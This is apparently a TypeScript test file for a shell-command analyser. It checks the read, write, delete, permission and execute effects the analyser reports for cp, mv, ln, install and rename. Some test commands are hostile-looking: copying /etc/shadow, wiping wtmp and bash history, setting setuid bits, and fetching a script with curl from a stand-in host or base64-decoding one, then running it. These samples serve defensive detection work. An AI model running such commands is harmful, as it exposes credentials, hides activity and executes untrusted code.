import { describe, expect, it } from 'vitest';
import { effectText } from '../../../../src/shell/explain/effect-text.js';
import { explain } from '../../../../src/shell/explain/explain.js';
import { analyse } from '../../../../src/shell/understand.js';
import { effectsOf } from '../../effects-of.js';

const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
  ['cp a b', ['read:read a', 'write:overwrite b', 'write:overwrite b/a']],
  ['cp a b.conf', ['read:read a', 'write:overwrite b.conf']],
  ['cp x/a y/a', ['read:read x/a', 'write:overwrite y/a']],
  ['cp -T a b', ['read:read a', 'write:overwrite b']],
  ['mv -T a b', ['delete:move a', 'write:overwrite b']],
  ['cp -r src /srv/www/', ['read:read src recursive', 'write:overwrite /srv/www/src recursive']],
  ['cp a b c/', ['read:read a', 'read:read b', 'write:overwrite c/a', 'write:overwrite c/b']],
  ['cp a.conf /etc', ['read:read a.conf', 'write:overwrite /etc/a.conf']],
  ['cp -t /etc/cron.d job', ['read:read job', 'write:overwrite /etc/cron.d/job']],
  ['cp --parents etc/shadow /mnt/x', ['read:read etc/shadow', 'write:overwrite /mnt/x/etc/shadow']],
  ['cp --parents -t /mnt /etc/hosts', ['read:read /etc/hosts', 'write:overwrite /mnt/etc/hosts']],
  ['cp -T a /etc', ['read:read a', 'write:overwrite /etc']],
  [
    'cp /etc/shadow /tmp/x',
    ['read:read /etc/shadow sensitive', 'write:overwrite /tmp/x', 'write:overwrite /tmp/x/shadow'],
  ],
  ['cp /dev/null /var/log/wtmp', ['read:read /dev/null', 'write:truncate /var/log/wtmp']],
  ['cp -s a b', ['write:overwrite b', 'write:overwrite b/a']],
  ['mv a b', ['delete:move a', 'write:overwrite b', 'write:overwrite b/a']],
  ['mv /etc /dev/null', ['delete:remove /etc recursive force', 'write:overwrite /dev/null']],
  [
    'mv --target-directory=/opt x y',
    ['delete:move x recursive', 'delete:move y recursive', 'write:overwrite /opt/x', 'write:overwrite /opt/y'],
  ],
  ['ln -s /usr/bin/python3 python', ['write:create python']],
  ['ln -sf /tmp/x /usr/bin/ls', ['write:overwrite /usr/bin/ls']],
  ['ln -sf /dev/null ~/.bash_history', ['write:truncate ~/.bash_history']],
  ['ln -s ../lib/x.so', ['write:create x.so']],
  ['install -d /srv/app', ['write:create /srv/app']],
  ['install -m 755 tool /usr/local/bin/', ['read:read tool', 'write:overwrite /usr/local/bin/tool']],
  [
    'install -m 4755 tool /usr/local/bin/tool',
    ['read:read tool', 'write:overwrite /usr/local/bin/tool', 'permission:setuid /usr/local/bin/tool'],
  ],
  ['install -m =xs a .', ['read:read a', 'write:overwrite a', 'permission:setuid a']],
  ['rename -n s/a/b/ x', []],
  ['rename .htm .html x.htm', ['delete:move x.htm']],
];

describe('tools that copy, move and link', () => {
  it.each(rows)('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });

  it('says that a copy may land in a directory, and follows it there', () => {
    const { effects } = analyse('cp a dir');
    expect(effects.map(effectText)).toEqual(['reads a', 'writes dir', 'writes dir/a (perhaps)']);
    expect(explain('cp a dir').summary).toBe('Copies files: reads a and writes dir and perhaps dir/a.');
    expect(effectsOf('curl -so s http://x.example/s; cp s dir; sh dir/s')).toContain('execute:downloaded dir/s');
  });

  it('leaves what was downloaded suspect under its new name', () => {
    for (const step of ['cp a b', 'mv a b', 'ln -s a b', 'install a b', 'dd if=a of=b', 'cat a > b']) {
      expect(effectsOf(`echo bad | base64 -d > a; ${step}; source ./b`)).toContain('execute:decoded b');
    }
  });
});
